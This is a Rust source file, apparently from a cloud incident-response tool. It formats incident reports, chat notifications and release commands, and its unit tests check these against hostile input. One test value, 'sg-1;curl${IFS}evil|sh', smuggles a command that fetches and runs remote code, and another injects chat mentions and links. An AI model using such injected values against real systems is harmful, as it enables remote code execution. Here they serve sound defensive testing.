//! The report of one incident, and the notification a person reads at 3 a.m.

use std::collections::BTreeMap;
use std::fmt::Write;

use serde::Serialize;

use crate::actions::registry::ActionKind;
use crate::approval::{Approval, Decision};
use crate::chat::{self, ChatMetadata, ChatNotification};
use crate::config::Mode;
use crate::incident::asff::CustomAction;
use crate::incident::Incident;
use crate::outcome::{Execution, Outcome, Status};
use crate::plan::Plan;
use crate::playbook::PROTECTED_RULE;
use crate::ports::Notification;
use crate::shell::{self, Command};
use crate::tags;

/// The overall result of handling one incident.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum Verdict {
    /// Every interface is isolated / every credential revoked.
    Contained,
    /// Containment was attempted and did not complete.
    ContainmentFailed,
    /// Containment was planned but deliberately not done (instance gone, exempt).
    Skipped,
    /// The playbook asked only for a notification.
    NotifiedOnly,
    /// Dry run: nothing was changed.
    DryRun,
    /// Evidence preserved (snapshots, protection) without containment.
    EvidencePreserved,
    /// Evidence preservation was attempted and did not complete.
    EvidenceFailed,
    /// A quarantine was undone.
    Released,
    /// A release was attempted and did not complete.
    ReleaseFailed,
    /// The blast-radius cap held containment back: evidence only, a human must decide.
    NeedsHuman,
    /// The playbook said `ask`: evidence preserved, containment waits for a human's approval.
    AwaitingApproval,
}

impl Verdict {
    /// Upper-case word for subjects.
    pub fn word(self) -> &'static str {
        match self {
            Verdict::Contained => "CONTAINED",
            Verdict::ContainmentFailed => "CONTAINMENT FAILED",
            Verdict::Skipped => "SKIPPED",
            Verdict::NotifiedOnly => "NOTICE",
            Verdict::DryRun => "DRY RUN",
            Verdict::EvidencePreserved => "EVIDENCE PRESERVED",
            Verdict::EvidenceFailed => "EVIDENCE FAILED",
            Verdict::Released => "RELEASED",
            Verdict::ReleaseFailed => "RELEASE FAILED",
            Verdict::NeedsHuman => "NEEDS A HUMAN",
            Verdict::AwaitingApproval => "AWAITING APPROVAL",
        }
    }

    /// True when something Firebreak attempted did not complete.
    pub fn is_failure(self) -> bool {
        matches!(
            self,
            Verdict::ContainmentFailed | Verdict::EvidenceFailed | Verdict::ReleaseFailed
        )
    }
}

/// What Firebreak did about one finding: the Lambda's response, the notification's JSON, the log.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Report {
    /// The finding id.
    pub finding_id: String,
    /// The finding type.
    pub finding_type: String,
    /// Its severity.
    pub severity: f64,
    /// The resource's account.
    pub account: String,
    /// The resource's region.
    pub region: String,
    /// The resource (`i-…`).
    pub resource: String,
    /// apply or dry-run.
    pub mode: Mode,
    /// The overall result.
    pub verdict: Verdict,
    /// The playbook's plan.
    pub plan: Plan,
    /// Each step's outcome.
    pub outcomes: Vec<Outcome>,
    /// The groups each ENI had before quarantine.
    #[serde(skip_serializing_if = "BTreeMap::is_empty")]
    pub original_groups: BTreeMap<String, Vec<String>>,
    /// How to undo the credential actions.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub undo: Vec<String>,
    /// What the team must know beyond the outcomes.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub warnings: Vec<String>,
    /// For a contained instance: which connections are cut, and by what.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub connections: Option<String>,
    /// For a contained Lambda function: what holds, for every version and alias.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub holds: Option<String>,
    /// Awaiting approval: how to approve or reject, one line each.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub approval: Vec<String>,
}

/// Security groups and network ACLs both held.
pub const CUT_BOTH: &str = "new and existing connections cut (security groups + network ACLs; \
    the few flows neither can cut are listed in docs/actions.md)";
/// Only the security groups held.
pub const CUT_NEW: &str = "new connections blocked; connections through NAT gateways, load \
    balancers, endpoints and ICMP may survive until the network ACL entry is added";

/// What a contained instance's connections are, from the plan and the network ACL outcomes.
fn connections(plan: &Plan, verdict: Verdict, outcomes: &[Outcome]) -> Option<String> {
    if verdict != Verdict::Contained || !plan.has(ActionKind::IsolateInstance) {
        return None;
    }
    let acl: Vec<&Outcome> = outcomes
        .iter()
        .filter(|o| o.action == ActionKind::DenyNetworkAcl)
        .collect();
    Some(match plan.has(ActionKind::DenyNetworkAcl) {
        true if !acl.is_empty() && acl.iter().all(|o| o.is_ok()) => CUT_BOTH.to_string(),
        true => CUT_NEW.to_string(),
        false => format!("{CUT_NEW} (FIREBREAK_NETWORK_ACL_DENY is off)"),
    })
}

/// What holds for a contained Lambda function, step by step (a version's configuration is fixed
/// when it is published: only concurrency, mappings and sessions reach every version and alias).
fn function_holds(plan: &Plan, verdict: Verdict, outcomes: &[Outcome]) -> Option<String> {
    if verdict != Verdict::Contained || !plan.has(ActionKind::StopFunction) {
        return None;
    }
    let step = |k: ActionKind| outcomes.iter().find(|o| o.action == k);
    let ok = |k: ActionKind| step(k).is_some_and(Outcome::is_ok);
    let mut holds = Vec::new();
    if ok(ActionKind::StopFunction) {
        holds.push("reserved concurrency 0 stops every version and alias");
    }
    if ok(ActionKind::DisableEventSources) {
        holds.push("its event source mappings (its aliases' too) are off");
    }
    if ok(ActionKind::RevokeFunctionSessions) {
        holds.push("its execution role denies the sessions issued to it before the response");
    }
    match step(ActionKind::IsolateFunction) {
        Some(o) if o.is_ok() => holds.push(
            "network: $LATEST and versions published from now on in the isolation group \
             (published versions keep their groups)",
        ),
        Some(o) if o.status == Status::Skipped => {
            holds.push("network: none to isolate (not attached to a VPC)")
        }
        _ => {}
    }
    Some(holds.join("; "))
}

/// One warning per change a release cannot undo because its record could not be written.
fn unrecorded(outcomes: &[Outcome]) -> Vec<String> {
    outcomes
        .iter()
        .filter_map(|o| Some((o, o.unrecorded.as_ref()?)))
        .map(|(o, what)| {
            format!(
                "NOT RECORDED on {} ({}): {what}. FbRelease cannot undo this; restore it by hand \
                 after the investigation.",
                o.resource, o.action
            )
        })
        .collect()
}

/// The overall result of a plan carried out.
fn verdict(plan: &Plan, mode: Mode, execution: &Execution) -> Verdict {
    let outcomes = &execution.outcomes;
    if mode == Mode::DryRun && plan.changes_resources() {
        Verdict::DryRun
    } else if execution.held_by_cap.is_some() || plan.rule == PROTECTED_RULE {
        Verdict::NeedsHuman
    } else if plan.actions.is_empty() {
        Verdict::Skipped
    } else if plan.has(ActionKind::ReleaseInstance)
        || plan.has(ActionKind::ReleaseFunction)
        || plan.has(ActionKind::ReleaseBucket)
        || plan.has(ActionKind::RestoreSharing)
    {
        match execution.completed {
            Some(true) => Verdict::Released,
            Some(false) => Verdict::ReleaseFailed,
            None => Verdict::Skipped,
        }
    } else if plan.changes_resources() && !plan.has_containment() {
        let asked = |o: &Outcome| o.action == ActionKind::AwaitApproval && o.is_ok();
        if outcomes.iter().any(|o| o.status == Status::Failed) {
            Verdict::EvidenceFailed
        } else if outcomes.iter().all(|o| o.status == Status::Skipped) {
            Verdict::Skipped
        } else if outcomes.iter().any(asked) {
            Verdict::AwaitingApproval
        } else {
            Verdict::EvidencePreserved
        }
    } else if !plan.has_containment() {
        Verdict::NotifiedOnly
    } else {
        match execution.completed {
            Some(true) => Verdict::Contained,
            Some(false) => Verdict::ContainmentFailed,
            None => Verdict::Skipped,
        }
    }
}

impl Report {
    /// Builds the report of a handled incident.
    pub fn new(incident: &Incident, plan: Plan, mode: Mode, execution: Execution) -> Report {
        let verdict = verdict(&plan, mode, &execution);
        let connections = connections(&plan, verdict, &execution.outcomes);
        let holds = function_holds(&plan, verdict, &execution.outcomes);
        let unrecorded = unrecorded(&execution.outcomes);
        Report {
            connections,
            holds,
            approval: Vec::new(),
            finding_id: incident.finding_id.clone(),
            finding_type: incident.finding_type.clone(),
            severity: incident.severity,
            account: incident.account.clone(),
            region: incident.region.clone(),
            resource: incident.resource_name(),
            mode,
            verdict,
            plan,
            outcomes: execution.outcomes,
            original_groups: execution.original_groups,
            undo: execution.undo,
            warnings: execution
                .held_by_cap
                .into_iter()
                .chain(execution.warnings)
                .chain(unrecorded)
                .collect(),
        }
    }

    /// With the ways to approve or reject an `ask` (`function`: the one that takes the approval
    /// event, `securityhub-action`); unchanged for any other verdict.
    pub fn with_approval(mut self, incident: &Incident, function: Option<&str>) -> Report {
        if self.verdict != Verdict::AwaitingApproval {
            return self;
        }
        let mut lines = vec![
            "Approve (contains the instance): select the finding in Security Hub and choose the \
             custom action FbQuarantine."
                .to_string(),
            "Reject (lifts the evidence protection Firebreak set): choose FbRelease.".to_string(),
        ];
        if let Some(function) = function {
            lines.push("Or from a shell, with your name in \"by\":".to_string());
            for decision in [Decision::Approve, Decision::Reject] {
                lines.push(Approval::command(function, incident, decision));
            }
        }
        self.approval = lines;
        self
    }

    /// The failed steps, one line each.
    pub fn failures(&self) -> Vec<String> {
        self.outcomes
            .iter()
            .filter(|o| o.status == Status::Failed)
            .map(|o| format!("{} {}: {}", o.action, o.resource, o.detail))
            .collect()
    }

    /// The SNS message: the text, the structured report and the chat notification.
    pub fn notification(&self, incident: &Incident) -> Notification {
        let subject = subject(&format!(
            "Firebreak {}: {} on {} (severity {})",
            self.verdict.word(),
            self.finding_type,
            self.resource,
            self.severity
        ));
        let mut b = String::new();
        self.write_found(&mut b, incident);
        self.write_outcomes(&mut b);
        self.write_undo(&mut b);
        let chat = self.chat(incident, &b);
        Notification {
            subject,
            body: b,
            report: serde_json::to_string_pretty(self).unwrap_or_default(),
            chat,
            attributes: vec![
                ("severity".into(), format!("{}", self.severity), true),
                ("finding_type".into(), self.finding_type.clone(), false),
                ("account".into(), self.account.clone(), false),
                ("outcome".into(), self.verdict.name(), false),
            ],
        }
    }

    /// The chat notification: the text as a code block, in the finding's thread.
    fn chat(&self, incident: &Incident, text: &str) -> String {
        let title = format!(
            "{} Firebreak {}: {} on {} (severity {})",
            self.verdict.emoji(),
            self.verdict.word(),
            chat::text(&self.finding_type),
            chat::text(&self.resource),
            self.severity
        );
        let context = [
            ("findingId", self.finding_id.clone()),
            ("findingType", self.finding_type.clone()),
            ("severity", self.severity.to_string()),
            ("verdict", self.verdict.name()),
            ("resource", self.resource.clone()),
            ("account", self.account.clone()),
            ("region", self.region.clone()),
            ("mode", self.mode.as_str().to_string()),
        ];
        let metadata = ChatMetadata {
            thread_id: self.finding_id.clone(),
            summary: format!(
                "Firebreak {} {} in account {} ({}): {}",
                self.verdict.word(),
                chat::text(&self.resource),
                chat::text(&self.account),
                chat::text(&self.region),
                chat::text(&self.finding_type)
            ),
            event_type: format!("firebreak-{}", self.verdict.name()),
            related_resources: std::iter::once(self.resource.clone())
                .chain(incident.finding_arn.clone())
                .collect(),
            additional_context: context.map(|(k, v)| (k.to_string(), v)).into(),
            enable_custom_actions: true,
        };
        let mut n = ChatNotification::new(title, chat::block(text), metadata);
        n.content.next_steps = self.next_steps();
        n.content.keywords = [
            self.verdict.word(),
            self.finding_type.as_str(),
            self.region.as_str(),
        ]
        .map(chat::text)
        .to_vec();
        n.to_json()
    }

    /// What the team does now, for the chat's next steps.
    fn next_steps(&self) -> Vec<String> {
        let resource = chat::code(&self.resource);
        let finding = chat::code(&self.finding_id);
        if self.verdict.is_failure() {
            return vec![
                format!("Act on {resource} by hand now: WHAT FAILED lists what did not complete"),
                "A redelivery of the finding retries safely: every step is idempotent".into(),
            ];
        }
        match self.verdict {
            Verdict::NeedsHuman => vec![format!(
                "Decide: choose {} on finding {finding} in Security Hub to contain {resource}",
                CustomAction::FbQuarantine.id()
            )],
            Verdict::Contained if self.plan.has(ActionKind::IsolateInstance) => vec![
                format!("Investigate {resource} from its evidence snapshots"),
                format!(
                    "After the investigation, choose {} on finding {finding} in Security Hub",
                    CustomAction::FbRelease.id()
                ),
            ],
            Verdict::Contained if self.plan.has(ActionKind::StopFunction) => vec![format!(
                "After the investigation, choose {} on finding {finding} in Security Hub",
                CustomAction::FbRelease.id()
            )],
            Verdict::Contained => {
                vec!["After the investigation, undo with the commands under HOW TO UNDO".into()]
            }
            Verdict::DryRun => {
                vec!["Nothing was changed (dry run): the plan is under WHAT WAS DONE".into()]
            }
            _ => Vec::new(),
        }
    }

    /// The headline, WHAT WAS FOUND and DECISION.
    fn write_found(&self, b: &mut String, incident: &Incident) {
        let _ = writeln!(
            b,
            "Firebreak {} {} in account {} ({}).\n",
            self.verdict.word(),
            self.resource,
            self.account,
            self.region
        );
        if let Some(c) = &self.connections {
            let _ = writeln!(b, "Connections: {c}.\n");
        }
        if let Some(h) = &self.holds {
            let _ = writeln!(b, "What holds: {h}.\n");
        }
        let _ = writeln!(b, "WHAT WAS FOUND");
        let _ = writeln!(
            b,
            "  {} (severity {}){}",
            self.finding_type,
            self.severity,
            incident
                .title
                .as_deref()
                .map(|t| format!(": {t}"))
                .unwrap_or_default()
        );
        let _ = writeln!(b, "  finding {}", self.finding_id);
        if let Some(arn) = &incident.finding_arn {
            let _ = writeln!(b, "  {arn}");
        }
        let _ = writeln!(
            b,
            "\nDECISION\n  {} ({}), mode {}",
            self.plan.reason,
            self.plan.rule,
            self.mode.as_str()
        );
    }

    /// WHAT WAS DONE, WHAT FAILED, WARNING.
    fn write_outcomes(&self, b: &mut String) {
        let _ = writeln!(b, "\nWHAT WAS DONE");
        let done: Vec<&Outcome> = self
            .outcomes
            .iter()
            .filter(|o| o.status != Status::Failed)
            .collect();
        if done.is_empty() {
            let _ = writeln!(b, "  nothing was changed");
        }
        for o in done {
            let _ = writeln!(
                b,
                "  [{:?}] {} {}: {}",
                o.status, o.action, o.resource, o.detail
            );
        }
        let _ = writeln!(b, "\nWHAT FAILED");
        let failures = self.failures();
        if failures.is_empty() {
            let _ = writeln!(b, "  nothing");
        }
        for f in failures {
            let _ = writeln!(b, "  {f}");
        }
        if !self.warnings.is_empty() {
            let _ = writeln!(b, "\nWARNING");
            for w in &self.warnings {
                let _ = writeln!(b, "  {w}");
            }
        }
    }

    /// How a Lambda function's containment is released.
    fn write_function_release(&self, b: &mut String) {
        let _ = writeln!(
            b,
            "  Choose {} on the finding in Security Hub: it gives back the reserved and \
             provisioned\n  concurrency, the event source mappings and the VPC groups exactly as \
             recorded on the function\n  ({}, {}, {}, {}) and removes the deny policy from its \
             execution role.",
            CustomAction::FbRelease.id(),
            tags::CONCURRENCY,
            tags::PROVISIONED,
            tags::EVENT_SOURCES,
            tags::VPC_GROUPS
        );
    }

    /// HOW TO UNDO (credentials) or HOW TO RELEASE (a quarantine); HOW TO DECIDE (an `ask`).
    fn write_undo(&self, b: &mut String) {
        if !self.approval.is_empty() {
            let _ = writeln!(b, "\nHOW TO DECIDE (approve or reject)");
            for line in &self.approval {
                let _ = writeln!(b, "  {line}");
            }
        }
        if !self.undo.is_empty() {
            let _ = writeln!(b, "\nHOW TO UNDO (after the investigation)");
            for u in &self.undo {
                let _ = writeln!(b, "  {u}");
            }
        }
        if !self.undo.is_empty()
            || !matches!(
                self.verdict,
                Verdict::Contained | Verdict::ContainmentFailed
            )
        {
            return;
        }
        let _ = writeln!(b, "\nHOW TO RELEASE (after the investigation)");
        if self.plan.has(ActionKind::StopFunction) {
            return self.write_function_release(b);
        }
        let _ = writeln!(
            b,
            "  Restore each interface's groups (recorded on the instance in {}):",
            tags::ISOLATION
        );
        for (eni, groups) in &self.original_groups {
            let restore = Command::new("aws ec2 modify-network-interface-attribute")
                .arg("--region", shell::REGION, &self.region)
                .arg("--network-interface-id", shell::NETWORK_INTERFACE, eni)
                .args("--groups", shell::SECURITY_GROUP, groups);
            let _ = writeln!(b, "    {}", restore.or_note(|c| c));
        }
        let _ = writeln!(
            b,
            "  then remove the instance's firebreak:* tags, and turn termination protection off only if\n  \
             {} says termination-protection. Evidence snapshots are kept.",
            tags::EVIDENCE
        );
        let acl_denied = self.outcomes.iter().any(|o| {
            o.action == ActionKind::DenyNetworkAcl
                && matches!(
                    o.status,
                    Status::Succeeded | Status::AlreadyDone | Status::Skipped
                )
        });
        if acl_denied {
            let _ = writeln!(
                b,
                "  Its addresses are denied in the network ACLs of its VPC (the {} lines above;\n  \
                 recorded in {}): delete those entries too, or let FbRelease do it.",
                ActionKind::DenyNetworkAcl,
                tags::ACL_DENIES
            );
        }
        let out_of_service = self
            .outcomes
            .iter()
            .any(|o| o.action == ActionKind::TakeOutOfService && o.status == Status::Succeeded);
        if out_of_service {
            let _ = writeln!(
                b,
                "  It was also taken out of service (the {} lines above; recorded as\n  \
                 {} and {}).\n  \
                 The Security Hub custom action FbRelease puts all of it back (ExitStandby or\n  \
                 AttachInstances, RegisterTargets, AssociateAddress) along with the groups.",
                ActionKind::TakeOutOfService,
                tags::AUTO_SCALING,
                tags::OUT_OF_SERVICE
            );
        }
    }
}

impl Verdict {
    /// The kebab-case name (as serialized): `contained`, `needs-human`, ….
    pub fn name(self) -> String {
        serde_json::to_value(self)
            .ok()
            .and_then(|v| v.as_str().map(String::from))
            .unwrap_or_default()
    }

    /// The chat title's mark: something to act on, done, rehearsed, or for information.
    pub fn emoji(self) -> &'static str {
        match self {
            v if v.is_failure() => "🚨",
            Verdict::NeedsHuman => "🚨",
            Verdict::Contained | Verdict::Released | Verdict::EvidencePreserved => "✅",
            Verdict::DryRun => "🧪",
            _ => "ℹ️",
        }
    }
}

/// SNS subjects: ASCII, one line, under 100 characters.
pub fn subject(s: &str) -> String {
    let clean: String = s
        .chars()
        .map(|c| {
            if c.is_ascii() && !c.is_ascii_control() {
                c
            } else {
                ' '
            }
        })
        .collect();
    if clean.len() < 100 {
        clean
    } else {
        format!("{}...", &clean[..96])
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    use crate::config::Config;
    use crate::outcome::Execution;
    use crate::ports::REPORT_MARKER;
    use serde_json::Value;

    /// A contained C&C instance whose finding title an attacker wrote.
    pub(crate) fn contained(title: &str) -> (Incident, Report) {
        let event: Value = serde_json::from_str(include_str!(
            "../../events/guardduty-backdoor-c2-instance.json"
        ))
        .unwrap();
        let mut incident = Incident::from_event(&event).unwrap();
        incident.title = Some(title.to_string());
        let plan = crate::playbook::plan(&incident, &Config::for_tests());
        let resource = incident.resource_name();
        let execution = Execution {
            outcomes: vec![Outcome::new(
                ActionKind::IsolateInstance,
                &resource,
                Status::Succeeded,
                "eni-1: sg-app → isolation",
            )],
            completed: Some(true),
            ..Execution::default()
        };
        let report = Report::new(&incident, plan, Mode::Apply, execution);
        (incident, report)
    }

    const HOSTILE: &str =
        "Evil `code` <!channel> <@U1> @here *bold* _it_ ~s~ |x| [link](https://evil)\nsecond line";

    #[test]
    fn each_subscriber_gets_its_form_of_the_message() {
        let (incident, report) = contained(HOSTILE);
        assert_eq!(report.verdict, Verdict::Contained);
        let n = report.notification(&incident);
        // The e-mail is the text, then the structured report, as it always was.
        let email = n.email();
        assert!(email.starts_with("Firebreak CONTAINED i-"), "{email}");
        let (text, json) = email.split_once(&format!("\n{REPORT_MARKER}\n")).unwrap();
        assert_eq!(text, n.body);
        let structured: Value = serde_json::from_str(json).unwrap();
        assert_eq!(structured["verdict"], "contained");
        assert!(
            n.body.contains(HOSTILE.lines().next().unwrap()),
            "the e-mail keeps the title"
        );
        // One key per protocol; SNS requires "default" (a string).
        let structure: Value = serde_json::from_str(&n.message_structure()).unwrap();
        let keys: Vec<&str> = structure
            .as_object()
            .unwrap()
            .keys()
            .map(|k| k.as_str())
            .collect();
        assert_eq!(keys, ["default", "email", "lambda", "sms"]);
        assert_eq!(structure["default"], n.chat);
        assert_eq!(structure["email"], email);
        assert_eq!(structure["sms"], n.subject);
        let automation: Value =
            serde_json::from_str(structure["lambda"].as_str().unwrap()).unwrap();
        assert_eq!(automation, structured);
    }

    #[test]
    fn the_chat_notification_follows_chatbot_s_schema_in_the_finding_s_thread() {
        let (incident, report) = contained(HOSTILE);
        let chat: Value = serde_json::from_str(&report.notification(&incident).chat).unwrap();
        assert_eq!(chat["version"], "1.0");
        assert_eq!(chat["source"], "custom");
        let content = &chat["content"];
        assert_eq!(content["textType"], "client-markdown");
        let title = content["title"].as_str().unwrap();
        assert!(title.contains("CONTAINED") && title.contains("Backdoor:EC2/C&CActivity.B"));
        let description = content["description"].as_str().unwrap();
        assert!(description.starts_with("```\n") && description.ends_with("\n```"));
        assert_eq!(description.matches("```").count(), 2, "{description}");
        assert!(description.contains("Evil ˋcodeˋ ‹!channel› ‹@U1› ＠here *bold*"));
        assert!(!description.contains('<') && !description.contains("@here"));
        let steps: Vec<&str> = (content["nextSteps"].as_array().unwrap().iter())
            .map(|s| s.as_str().unwrap())
            .collect();
        assert!(steps.iter().any(|s| s.contains("FbRelease")), "{steps:?}");
        assert!(content["keywords"].as_array().unwrap().len() >= 2);
        let metadata = &chat["metadata"];
        assert_eq!(metadata["threadId"], report.finding_id.as_str());
        assert_eq!(metadata["eventType"], "firebreak-contained");
        assert_eq!(
            metadata["additionalContext"]["findingId"],
            report.finding_id.as_str()
        );
        assert_eq!(metadata["additionalContext"]["verdict"], "contained");
        assert_eq!(metadata["relatedResources"][0], report.resource.as_str());
        assert!(metadata["summary"].as_str().unwrap().contains("CONTAINED"));
    }

    #[test]
    fn a_hostile_finding_type_or_resource_cannot_format_the_title_or_summary() {
        let (incident, mut report) = contained("t");
        report.finding_type = "Evil:EC2/x*y_z`<!channel>\n@everyone [a](b)".into();
        report.resource = "i-1|<@U1>".into();
        let chat: Value = serde_json::from_str(&report.notification(&incident).chat).unwrap();
        for text in [
            &chat["content"]["title"],
            &chat["metadata"]["summary"],
            &chat["content"]["keywords"][1],
        ] {
            let text = text.as_str().unwrap();
            // (Parentheses of Firebreak's own, "(severity 8)", are not a link without brackets.)
            for c in ['*', '_', '`', '<', '>', '@', '\n', '[', ']', '|'] {
                assert!(!text.contains(c), "{c:?} in {text}");
            }
            assert!(!text.contains("(b)"), "{text}");
        }
        // Identifiers in the next steps are code: copied as they are.
        let steps = chat["content"]["nextSteps"].to_string();
        assert!(steps.contains("`i-1|‹@U1›`"), "{steps}");
    }

    #[test]
    fn the_release_commands_print_only_valid_recorded_ids() {
        use crate::shell::testing::{assert_pasteable, HOSTILE};
        let (_, report) = contained("t");
        let release = |region: &str, eni: &str, group: &str| {
            let mut r = report.clone();
            r.region = region.into();
            r.original_groups = BTreeMap::from([(
                eni.to_string(),
                vec!["sg-0123456789abcdef0".to_string(), group.to_string()],
            )]);
            let mut b = String::new();
            r.write_undo(&mut b);
            b
        };
        let (eni, group) = ("eni-0123456789abcdef0", "sg-12345678");
        let ordinary = release("eu-west-1", eni, group);
        assert!(ordinary.contains(
            "\n    aws ec2 modify-network-interface-attribute --region eu-west-1 \
             --network-interface-id eni-0123456789abcdef0 --groups sg-0123456789abcdef0 sg-12345678\n"
        ));
        for hostile in HOSTILE {
            for text in [
                release(hostile, eni, group),
                release("eu-west-1", hostile, group),
                release("eu-west-1", eni, hostile),
            ] {
                assert!(text.contains("\n    (not printed: "), "{text}");
                assert_pasteable(&text, &ordinary);
            }
        }
        let no = release("eu-west-1", eni, "sg-1;curl${IFS}evil|sh");
        assert!(no.contains(
            r#"(not printed: "sg-1;curl${IFS}evil|sh" is not a valid security group id)"#
        ));
    }

    #[test]
    fn subjects_are_short_ascii_single_lines() {
        let s = subject(&format!("Firebreak CONTAINED: {}\n é", "x".repeat(200)));
        assert!(s.len() < 100);
        assert!(s.is_ascii() && !s.contains('\n'));
        assert_eq!(subject("short"), "short");
    }
}
